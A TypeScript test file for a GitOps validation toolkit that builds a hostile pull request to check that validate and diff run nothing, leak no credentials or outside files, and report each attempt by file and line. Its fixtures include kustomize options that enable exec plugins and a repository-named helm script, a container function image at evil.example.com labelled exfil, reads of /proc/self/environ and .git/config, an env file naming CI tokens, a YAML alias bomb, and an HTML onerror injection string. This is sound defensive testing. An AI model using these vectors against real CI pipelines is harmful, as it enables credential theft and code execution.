// Hostile pull requests: each fixture is something a pull request author controls (argocd-cm
// build options, kustomizations, symlinks, YAML, names and values) aimed at running code,
// reading files from the machine or leaking the CI's credentials. validate and diff run over
// them in every output format with fake credentials in the environment; nothing may execute,
// nothing from outside the repository and no credential may appear, and each attempt must be
// a finding that names its file (and line).
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { promisify } from 'node:util';
import { chmod, mkdtemp, rm, symlink, writeFile, mkdir } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { REPO_ROOT, findKustomize } from '../lib/core/tools.js';
import { childEnv, run } from '../lib/core/exec.js';
import type { Finding } from '../lib/core/finding.js';
import { baseFiles, makeRepo, removeRepo, testEnv } from './repo-fixture.js';
import { commitAll, gitInit, writeFiles } from './fixtures.js';

const execFileP = promisify(execFile);

// Credentials of the kind CI holds, in the toolkit's own environment and every child's parent.
const FAKE = {
  GITHUB_TOKEN: `ghp_${'F4keGitHubT0ken'.padEnd(36, 'x')}`,
  GH_TOKEN: 'gho_F4keGhCliTokenValue0123456789abcdef',
  REGISTRY_PASSWORD: 'f4ke-registry-passw0rd-3141592653',
  AWS_SECRET_ACCESS_KEY: 'f4keAwsSecretAccessKey/0123456789ABCDEFGH',
  NPM_TOKEN: 'npm_F4keNpmTokenValue0123456789abcdefghij',
};
Object.assign(process.env, FAKE);
const env: NodeJS.ProcessEnv = { ...testEnv, ...FAKE };
const CANARY = 'CANARY-outside-the-repository-7d1f3a';

let outside: string;
let dir: string;
let server: Server;
let requests = 0;
const outputs: Array<{ what: string; text: string }> = [];

const EXEC_MARKER = () => path.join(outside, 'exec-function-ran');
const HELM_MARKER = () => path.join(outside, 'helm-command-ran');
const hostile = (name: string) => `overlays/minikube/hostile/${name}`;

function clusterFiles(cluster: string, buildOptions: string): Record<string, string> {
  return {
    [`clusters/${cluster}/kustomization.yaml`]: 'resources:\n  - argocd-cm.yaml\n',
    [`clusters/${cluster}/argocd-cm.yaml`]: `apiVersion: v1
kind: ConfigMap
metadata:
  name: argocd-cm
  namespace: argocd
data:
  kustomize.buildOptions: ${buildOptions}
`,
  };
}

const BUILD_OPTIONS_LINE = 7;
const REFUSED = ['--enable-alpha-plugins', '--enable-exec', '--helm-command', '--load-restrictor LoadRestrictionsNone', '--mount', '--network', '--env'];

/** An overlay of the hostile system (namespace `hostile`) with the given kustomization body. */
function overlay(name: string, body: string): Record<string, string> {
  return { [`${hostile(name)}/kustomization.yaml`]: `namespace: hostile\n${body}` };
}

// Credentials committed by mistake (or on purpose) into a ConfigMap: shapes every output hides.
const REPO_TOKENS = {
  github: `ghp_${'R3poCommittedT0ken'.padEnd(36, 'q')}`,
  aws: 'AKIAQWERTYUIOPASDFGH',
  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJyZXBvLWp3dCJ9.c2lnbmF0dXJlLW9mLXRoZS1qd3Q',
  pem: 'MIIEpAIBAAKCAQEAreposecretkeybody',
  secretValue: 'c3VwZXItc2VjcmV0LXZhbHVl',
};
const INJECTION = '```\n</details><img src=x onerror=alert(1)> <!-- @octocat #1 [x](https://evil.example)';

/** The `values` overlay: a ConfigMap and a Secret whose values the pull request changes. */
function valuesFiles(hostileValues: boolean): Record<string, string> {
  const note = hostileValues ? JSON.stringify(`token ${REPO_TOKENS.github} ${INJECTION}`) : 'plain';
  return {
    ...overlay('values', 'resources:\n  - cm.yaml\n  - secret.yaml\n'),
    [`${hostile('values')}/cm.yaml`]: `apiVersion: v1
kind: ConfigMap
metadata:
  name: values
data:
  note: ${note}
  aws: ${hostileValues ? REPO_TOKENS.aws : 'none'}
  jwt: ${hostileValues ? REPO_TOKENS.jwt : 'none'}
  tls.key: ${JSON.stringify(hostileValues ? `-----BEGIN PRIVATE KEY-----\n${REPO_TOKENS.pem}\n-----END PRIVATE KEY-----\n` : 'none')}
  api_token: ${hostileValues ? 'plain-but-named-like-a-token' : 'before'}
`,
    [`${hostile('values')}/secret.yaml`]: `apiVersion: v1
kind: Secret
metadata:
  name: only-values-change
data:
  password: ${hostileValues ? REPO_TOKENS.secretValue : 'b2xkLXZhbHVl'}
`,
  };
}

const BOMB = (() => {
  let s = 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bomb\ndata:\n  a: &a ["x","x","x","x","x","x","x","x","x"]\n';
  for (let i = 0; i < 9; i++) s += `  ${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(9).fill(`*${String.fromCharCode(97 + i)}`).join(',')}]\n`;
  return s;
})();

async function hostileFiles(port: number): Promise<Record<string, string>> {
  return {
    // argocd-cm asks kustomize to run programs and read anything.
    ...clusterFiles('minikube', `--enable-alpha-plugins --enable-exec --enable-helm --helm-command ./${hostile('helm')}/evil-helm.sh --load-restrictor LoadRestrictionsNone --mount type=bind,src=/,dst=/host --network --env GITHUB_TOKEN`),
    // An exec KRM function that would create a file outside the repository.
    ...overlay('exec-fn', 'generators:\n  - gen.yaml\n'),
    [`${hostile('exec-fn')}/gen.yaml`]: `apiVersion: example.com/v1
kind: Touch
metadata:
  name: touch
  annotations:
    config.kubernetes.io/function: |
      exec:
        path: ./touch.sh
`,
    [`${hostile('exec-fn')}/touch.sh`]: `#!/bin/sh\ntouch '${EXEC_MARKER()}'\necho 'apiVersion: v1'\necho 'kind: ConfigMap'\necho 'metadata: {name: pwned}'\n`,
    // An inline container function among the transformers.
    ...overlay('container-fn', 'resources:\n  - cm.yaml\ntransformers:\n  - |-\n    apiVersion: example.com/v1\n    kind: Exfil\n    metadata:\n      name: x\n      annotations:\n        config.kubernetes.io/function: |\n          container:\n            image: evil.example.com/exfil:1\n'),
    [`${hostile('container-fn')}/cm.yaml`]: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: plain\n',
    // A local chart rendered through the repository's own "helm".
    ...overlay('helm', 'helmCharts:\n  - name: chart\n    releaseName: r\n'),
    [`${hostile('helm')}/charts/chart/Chart.yaml`]: 'apiVersion: v2\nname: chart\nversion: 0.1.0\n',
    [`${hostile('helm')}/charts/chart/values.yaml`]: '{}\n',
    [`${hostile('helm')}/charts/chart/templates/cm.yaml`]: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: chart\n',
    [`${hostile('helm')}/evil-helm.sh`]: `#!/bin/sh\ntouch '${HELM_MARKER()}'\n`,
    // Symlinks out of the repository: a file and a whole base.
    ...overlay('symlink-file', 'resources:\n  - leak.yaml\n'),
    ...overlay('symlink-dir', 'resources:\n  - ../../../../apps/hostile/linked-base\n'),
    // The machine's files by absolute path, and the checkout's git config (tokens live there).
    ...overlay('proc-environ', 'configMapGenerator:\n  - name: environ\n    files:\n      - /proc/self/environ\n'),
    ...overlay('git-config', 'configMapGenerator:\n  - name: gitconfig\n    files:\n      - config=../../../../.git/config\n'),
    // An env file that names credentials (kustomize once filled such keys from its environment).
    ...overlay('env-file', 'configMapGenerator:\n  - name: from-env\n    envs:\n      - leak.env\n'),
    [`${hostile('env-file')}/leak.env`]: 'GITHUB_TOKEN\nGH_TOKEN\nREGISTRY_PASSWORD\nSAFE=1\n',
    // Remote bases: one unpinned on the internet, one on a local server that must see no request.
    ...overlay('remote', `resources:\n  - https://github.com/kubernetes-sigs/kustomize//examples/helloWorld?ref=master\n  - http://127.0.0.1:${port}/${'c'.repeat(40)}/cm.yaml\n`),
    // A symlink whose target does not exist (yet): it could point anywhere.
    ...overlay('symlink-dangling', 'resources:\n  - gone.yaml\n'),
    // Malformed YAML of every kind: each a finding with its line, in bounded time.
    ...overlay('yaml-limits', 'resources:\n  - tabs.yaml\n  - deep.yaml\n  - huge.yaml\n  - bom.yaml\n  - latin1.yaml\n'),
    [`${hostile('yaml-limits')}/tabs.yaml`]: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n\tname: tabs\n',
    [`${hostile('yaml-limits')}/deep.yaml`]: `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: deep\n  annotations:\n    a: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`,
    [`${hostile('yaml-limits')}/huge.yaml`]: `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: huge\ndata:\n  a: "${'x'.repeat(5 * 1024 * 1024)}"\n`,
    [`${hostile('yaml-limits')}/bom.yaml`]: '\uFEFFapiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bom\n',
    // Token-shaped values and markdown injection in values, and in a name.
    ...valuesFiles(true),
    ...overlay('md-name', 'resources:\n  - cm.yaml\n'),
    [`${hostile('md-name')}/cm.yaml`]: `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${JSON.stringify(`x${INJECTION}`)}\ndata:\n  a: ${JSON.stringify(INJECTION)}\n`,
    // A billion laughs.
    ...overlay('alias-bomb', 'resources:\n  - bomb.yaml\n'),
    [`${hostile('alias-bomb')}/bomb.yaml`]: BOMB,
  };
}

async function runCli(args: string[]): Promise<{ code: number; out: string }> {
  const res = await execFileP('npx', ['tsx', path.join(REPO_ROOT, 'tools/cli.ts'), ...args, '--cwd', dir], { env, maxBuffer: 64 * 1024 * 1024 }).then(
    (r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
    (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, stdout: e.stdout, stderr: e.stderr }),
  );
  const out = `${res.stdout}\n${res.stderr}`;
  outputs.push({ what: args.join(' '), text: out });
  return { code: res.code, out: res.stdout };
}

before(async () => {
  outside = await mkdtemp(path.join(os.tmpdir(), 'gitops-hostile-outside-'));
  await writeFile(path.join(outside, 'canary.yaml'), `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: canary\ndata:\n  secret: ${CANARY}\n`);
  await mkdir(path.join(outside, 'base'));
  await writeFile(path.join(outside, 'base', 'kustomization.yaml'), 'resources:\n  - cm.yaml\n');
  await writeFile(path.join(outside, 'base', 'cm.yaml'), `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: canary-base\ndata:\n  secret: ${CANARY}\n`);
  server = createServer((req, res) => {
    requests++;
    res.end(`apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: fetched\ndata:\n  secret: ${CANARY}\n`);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;

  dir = await makeRepo({ ...baseFiles(), ...clusterFiles('minikube', '--load-restrictor LoadRestrictionsRootOnly'), ...valuesFiles(false) });
  gitInit(dir, 'clean');
  await writeFiles(dir, await hostileFiles(port));
  for (const f of [`${hostile('exec-fn')}/touch.sh`, `${hostile('helm')}/evil-helm.sh`]) await chmod(path.join(dir, f), 0o755);
  await symlink(path.join(outside, 'canary.yaml'), path.join(dir, hostile('symlink-file'), 'leak.yaml'));
  await mkdir(path.join(dir, 'apps/hostile'), { recursive: true });
  await symlink(path.join(outside, 'base'), path.join(dir, 'apps/hostile/linked-base'));
  await symlink(path.join(outside, 'not-there-yet.yaml'), path.join(dir, hostile('symlink-dangling'), 'gone.yaml'));
  await writeFile(path.join(dir, hostile('yaml-limits'), 'latin1.yaml'), Buffer.from('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: latin1\ndata:\n  city: "M\xfcnchen"\n', 'latin1'));
  commitAll(dir, 'hostile pull request');
});

after(async () => {
  server?.close();
  if (dir && !process.env.KEEP_HOSTILE) await removeRepo(dir);
  if (outside) await rm(outside, { recursive: true, force: true });
});

describe('the fixtures are really hostile (kustomize alone, with the options the pull request asks for)', () => {
  test('the exec function runs and the symlinked base is read when nothing stands in between', async () => {
    const kustomize = await findKustomize(env);
    const plain = { env: childEnv(), allowFailure: true };
    await run(kustomize.cmd, [...kustomize.args, '--enable-alpha-plugins', '--enable-exec', path.join(dir, hostile('exec-fn'))], plain);
    assert.ok(existsSync(EXEC_MARKER()), 'control: the exec function should have created its marker');
    await rm(EXEC_MARKER());
    const base = await run(kustomize.cmd, [...kustomize.args, path.join(dir, hostile('symlink-dir'))], plain);
    assert.match(base.stdout, new RegExp(CANARY));
  });
});

describe('validate and diff over a hostile pull request, every format, fake credentials in the environment', () => {
  let findings: Finding[] = [];

  before(async () => {
    const json = await runCli(['validate', '--format', 'json']);
    assert.equal(json.code, 1, json.out);
    findings = (JSON.parse(json.out) as { findings: Finding[] }).findings;
    for (const format of ['text', 'github']) assert.equal((await runCli(['validate', '--format', format])).code, 1);
    for (const format of ['text', 'markdown', 'json']) assert.equal((await runCli(['diff', '--base', 'HEAD~1', '--format', format])).code, 0);
  });

  const find = (rule: string, file: string, message?: RegExp) => {
    const hit = findings.find((f) => f.rule === rule && f.file === file && (!message || message.test(f.message)));
    assert.ok(hit, `no ${rule} in ${file}${message ? ` matching ${message}` : ''}:\n${findings.map((f) => `${f.rule} ${f.file}:${f.line} ${f.message}`).join('\n')}`);
    return hit;
  };

  test('no file was created by repository content', () => {
    assert.equal(existsSync(EXEC_MARKER()), false, 'the exec KRM function ran');
    assert.equal(existsSync(HELM_MARKER()), false, 'the repository-named helm command ran');
  });

  test('nothing from outside the repository and no credential appears in any output', () => {
    assert.equal(outputs.length, 6);
    for (const { what, text } of outputs) {
      assert.doesNotMatch(text, new RegExp(CANARY), `${what} shows a file from outside the repository`);
      for (const [name, value] of Object.entries(FAKE)) assert.ok(!text.includes(value), `${what} shows ${name}`);
      assert.doesNotMatch(text, /\[core\]|repositoryformatversion/, `${what} shows .git/config`);
      assert.doesNotMatch(text, /\n\s+at .+\(.+:\d+:\d+\)/, `${what} shows a stack trace`);
    }
    assert.equal(requests, 0, 'a remote base was fetched');
    for (const { what, text } of outputs) {
      for (const [name, value] of Object.entries(REPO_TOKENS)) assert.ok(!text.includes(value), `${what} shows the committed ${name}`);
      assert.ok(!text.includes('plain-but-named-like-a-token'), `${what} shows a value under a sensitive key`);
    }
  });

  test('a change of a Secret\'s values alone is a change, key names shown, values redacted', () => {
    const json = outputs.find((o) => o.what.startsWith('diff') && o.what.includes('json'))!.text;
    const d = JSON.parse(json.slice(0, json.lastIndexOf('}') + 1)) as { overlays: Array<{ overlay: string; objects: Array<{ resource: string; change: string; fields: unknown[] }> }> };
    const values = d.overlays.find((o) => o.overlay === hostile('values'));
    const secret = values?.objects.find((o) => o.resource === 'Secret/hostile/only-values-change');
    assert.deepEqual(secret, { resource: 'Secret/hostile/only-values-change', change: 'changed', fields: [{ path: 'data.password', before: '<redacted>', after: '<redacted>' }] });
  });

  test('markdown: repository text cannot close the fence or add HTML, comments, mentions or links', () => {
    const md = outputs.find((o) => o.what.includes('markdown'))!.text.split('\nnpm warn')[0];
    let inFence = false;
    const prose: string[] = [];
    for (const l of md.split('\n')) {
      if (l.startsWith('```')) {
        assert.ok(inFence ? l === '```' : l === '```diff', `a fence line the toolkit did not write: ${l}`);
        inFence = !inFence;
      } else if (!inFence) prose.push(l.replace(/`[^`\n]*`/g, ''));
    }
    assert.equal(inFence, false);
    assert.match(md, /data\.note/);
    assert.doesNotMatch(prose.join('\n'), /<img|<!--|@octocat|#1\b|\]\(https/);
  });

  test('every refused build option is an error at its argocd-cm line', () => {
    for (const option of REFUSED) {
      const f = find('build-option', 'clusters/minikube/argocd-cm.yaml', new RegExp(`'${option.replace(/[-]/g, '\\-')}'`));
      assert.equal(f.severity, 'error');
      assert.equal(f.line, BUILD_OPTIONS_LINE);
    }
  });

  test('--enable-helm without the pinned helm says how to install it', () => {
    if (findings.some((f) => f.rule === 'build-option' && /--enable-helm needs the toolkit's pinned helm/.test(f.message))) return;
    // With the pinned helm installed the chart renders with it (and the evil script did not run: see above).
    assert.ok(!findings.some((f) => f.overlay === hostile('helm') && f.rule === 'kustomize-build'), 'the local chart should render with the pinned helm');
    assert.ok(findings.some((f) => f.overlay === hostile('helm') && /^ConfigMap\/[^/]+\/chart$/.test(f.resource)), 'the chart\'s object was rendered');
  });

  test('KRM functions, exec or container, are refused before kustomize runs', () => {
    const exec = find('krm-function', `${hostile('exec-fn')}/kustomization.yaml`, /an exec KRM function/);
    assert.equal(exec.line, 3);
    const container = find('krm-function', `${hostile('container-fn')}/kustomization.yaml`, /a container KRM function/);
    assert.equal(container.line, 5);
  });

  test('symlinks out of the repository, absolute paths and .git are refused with file and line', () => {
    assert.equal(find('outside-repository', `${hostile('symlink-file')}/kustomization.yaml`, /'leak\.yaml' leaves the repository through a symlink/).line, 3);
    assert.equal(find('outside-repository', `${hostile('symlink-dir')}/kustomization.yaml`, /linked-base' leaves the repository through a symlink/).line, 3);
    assert.equal(find('outside-repository', `${hostile('proc-environ')}/kustomization.yaml`, /'\/proc\/self\/environ' is an absolute path/).line, 5);
    assert.equal(find('outside-repository', `${hostile('git-config')}/kustomization.yaml`, /\.git folder/).line, 5);
  });

  test('remote bases: offline by default, and an unpinned one is an error of its own', () => {
    const file = `${hostile('remote')}/kustomization.yaml`;
    assert.equal(find('remote-unpinned', file, /helloWorld\?ref=master' is not pinned.*'master' looks like a branch/).line, 3);
    assert.equal(find('remote-resource', file, /helloWorld.*--allow-remote/).line, 3);
    assert.equal(find('remote-resource', file, /127\.0\.0\.1/).line, 4);
    assert.ok(!findings.some((f) => f.rule === 'remote-unpinned' && /127\.0\.0\.1/.test(f.message)), 'a commit id in the path pins a raw URL');
  });

  test('an alias bomb, tabs, deep nesting, a huge file, a BOM and non-UTF-8 bytes: a YAML error naming file and line each', () => {
    assert.equal(find('yaml-syntax', `${hostile('alias-bomb')}/bomb.yaml`, /alias/).line, 7);
    const at = (f: string, re: RegExp) => find('yaml-syntax', `${hostile('yaml-limits')}/${f}`, re).line;
    assert.equal(at('tabs.yaml', /Tabs are not allowed as indentation/), 4);
    assert.equal(at('deep.yaml', /nesting deeper than 100 levels/), 6);
    assert.equal(at('huge.yaml', /over the limit of 4194304 bytes/), 1);
    assert.equal(at('bom.yaml', /byte-order mark/), 1);
    assert.equal(at('latin1.yaml', /not valid UTF-8/), 6);
  });

  test('a dangling symlink is refused too: its target could be anywhere', () => {
    assert.equal(find('outside-repository', `${hostile('symlink-dangling')}/kustomization.yaml`, /'gone\.yaml' is a symlink that does not resolve/).line, 3);
  });
});

describe('remote bases when allowed: pinned only, reported, bounded in time', () => {
  test('--allow-remote fetches a pinned URL (a note names it); a server that never answers stops the render at the timeout', async () => {
    const { runValidation } = await import('../lib/validate/validation.js');
    const seen: string[] = [];
    const hanging: Array<import('node:http').ServerResponse> = [];
    const srv = createServer((req, res) => {
      seen.push(req.url ?? '');
      if (req.url?.includes('/hang/')) return void hanging.push(res); // never answers
      res.end('apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: fetched\n');
    });
    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
    const port = (srv.address() as AddressInfo).port;
    const sha = 'd'.repeat(40);
    const repo = await makeRepo({
      ...baseFiles(),
      'gitops.yaml': `${baseFiles()['gitops.yaml']}render:\n  remoteTimeoutSeconds: 2\n`,
      ...overlay('fetch', `resources:\n  - http://127.0.0.1:${port}/${sha}/cm.yaml\n`),
      ...overlay('hang', `resources:\n  - http://127.0.0.1:${port}/hang/${sha}/cm.yaml\n`),
      ...overlay('branch', `resources:\n  - https://github.com/example/base//deploy?ref=main\n`),
    });
    try {
      const offline = await runValidation({ cwd: repo, envVars: { ...testEnv, GITOPS_NO_CACHE: '1' }, app: 'hostile/fetch' });
      assert.ok(offline.findings.some((f) => f.rule === 'remote-resource'));
      assert.deepEqual(seen, [], 'offline by default');
      const started = Date.now();
      const r = await runValidation({ cwd: repo, envVars: { ...testEnv, GITOPS_NO_CACHE: '1' }, env: 'dev', allowRemote: true });
      const elapsed = Date.now() - started;
      const at = (dir: string) => r.findings.filter((f) => f.overlay === hostile(dir));
      const note = at('fetch').find((f) => f.rule === 'remote-fetch');
      assert.equal(note?.severity, 'info');
      assert.match(note?.message ?? '', new RegExp(`http://127\\.0\\.0\\.1:${port}/${sha}/cm\\.yaml`));
      assert.equal(note?.file, `${hostile('fetch')}/kustomization.yaml`);
      assert.ok(r.rendered.find((x) => x.target.dir === hostile('fetch'))?.objects.some((o) => o.metadata.name === 'fetched'), 'the pinned URL was rendered');
      assert.match(at('hang').find((f) => f.rule === 'kustomize-build')?.message ?? '', /did not finish within 2 s/);
      assert.ok(elapsed < 60_000, `took ${elapsed} ms`);
      // Allowed or not, a branch is not an immutable ref; the render never starts.
      assert.ok(at('branch').some((f) => f.rule === 'remote-unpinned' && f.severity === 'error'));
      assert.ok(!(seen as string[]).some((u) => u.includes('example')));
    } finally {
      for (const res of hanging) res.destroy();
      srv.close();
      await removeRepo(repo);
    }
  });
});

describe('--enable-helm renders with the toolkit\'s helm, never the one the repository names', () => {
  test('GITOPS_HELM (or the pinned helm) inflates the chart; the --helm-command script never runs', async () => {
    const { runValidation } = await import('../lib/validate/validation.js');
    const tools = await mkdtemp(path.join(os.tmpdir(), 'gitops-hostile-helm-'));
    const log = path.join(tools, 'calls.log');
    const evilMarker = path.join(tools, 'evil-ran');
    // A stand-in for the pinned helm: records how kustomize calls it and prints one object.
    await writeFile(path.join(tools, 'helm'), `#!/bin/sh\necho "$@" >> '${log}'\nenv >> '${log}.env'\n[ "$1" = version ] && { echo v3.19.5+g0; exit 0; }\nprintf 'apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: from-our-helm\\n'\n`, { mode: 0o755 });
    const repo = await makeRepo({
      ...baseFiles(),
      ...clusterFiles('minikube', '--enable-helm --helm-command ./evil.sh'),
      'evil.sh': `#!/bin/sh\ntouch '${evilMarker}'\n`,
      ...overlay('chart', 'helmCharts:\n  - name: chart\n    releaseName: r\n'),
      [`${hostile('chart')}/charts/chart/Chart.yaml`]: 'apiVersion: v2\nname: chart\nversion: 0.1.0\n',
      [`${hostile('chart')}/charts/chart/values.yaml`]: '{}\n',
      [`${hostile('chart')}/charts/chart/templates/cm.yaml`]: 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: chart\n',
    });
    await chmod(path.join(repo, 'evil.sh'), 0o755);
    const saved = process.env.GITOPS_HELM;
    process.env.GITOPS_HELM = path.join(tools, 'helm');
    try {
      const r = await runValidation({ cwd: repo, envVars: { ...testEnv, GITOPS_NO_CACHE: '1' }, env: 'dev' });
      assert.equal(existsSync(evilMarker), false, 'the repository-named helm ran');
      const refused = r.findings.find((f) => f.rule === 'build-option' && /'--helm-command' is refused/.test(f.message));
      assert.equal(refused?.file, 'clusters/minikube/argocd-cm.yaml');
      assert.match(execFileSync('cat', [log], { encoding: 'utf8' }), /template/);
      assert.ok(r.rendered.find((x) => x.target.dir === hostile('chart'))?.objects.some((o) => o.metadata.name === 'from-our-helm'), 'the chart was not rendered by our helm');
      const helmEnv = execFileSync('cat', [`${log}.env`], { encoding: 'utf8' });
      for (const [name, value] of Object.entries(FAKE)) assert.ok(!helmEnv.includes(value), `helm saw ${name}`);
    } finally {
      if (saved === undefined) delete process.env.GITOPS_HELM;
      else process.env.GITOPS_HELM = saved;
      await removeRepo(repo);
      await rm(tools, { recursive: true, force: true });
    }
  });
});

describe('release commands parse with the same YAML limits', () => {
  test('a deeply nested kustomization is a ConfigError naming file and line, not a crashed parser', async () => {
    const { parseKustomization } = await import('../lib/render/images.js');
    const { parseTreeFile } = await import('../lib/render/imagesource.js');
    const { ConfigError } = await import('../lib/core/errors.js');
    const deep = `images:\n  - name: x\nresources: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`;
    for (const parse of [parseKustomization, parseTreeFile]) {
      assert.throws(() => parse('overlays/x/kustomization.yaml', deep), (e: unknown) => e instanceof ConfigError && /kustomization\.yaml:3: nesting deeper than 100 levels/.test(e.message));
    }
  });
});
